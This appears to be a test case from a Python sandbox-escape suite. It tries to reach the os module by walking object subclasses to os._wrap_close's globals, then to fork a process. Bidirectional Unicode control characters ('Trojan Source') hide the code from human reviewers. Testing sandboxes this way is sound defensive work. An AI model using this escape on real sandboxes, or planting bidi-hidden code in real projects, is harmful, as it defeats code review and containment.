# goal: Trojan Source: bidirectional control characters make the dunder walk look like the inside of a string or comment to a reviewer; the parser sees code
# capability: process
# stopped-by: language, seccomp
label = "display only"  # ‮ ⁦ comment ⁩ ⁦
walk = ().__class__.__base__.__subclasses__()  # ⁧ just a note ⁩
os_globals = None
for cls in walk:
    if cls.__name__ == "_wrap" + "_close":  # ‮ ignore ⁦
        os_globals = cls.__init__.__globals__
if os_globals is None:
    print("blocked: no os module reachable")
else:
    try:
        pid = os_globals["fork"]()
    except OSError as error:
        print("blocked:", error)
    else:
        if pid == 0:
            os_globals["_exit"](0)
        os_globals["waitpid"](pid, 0)
        print("ESCAPED: forked child", pid)
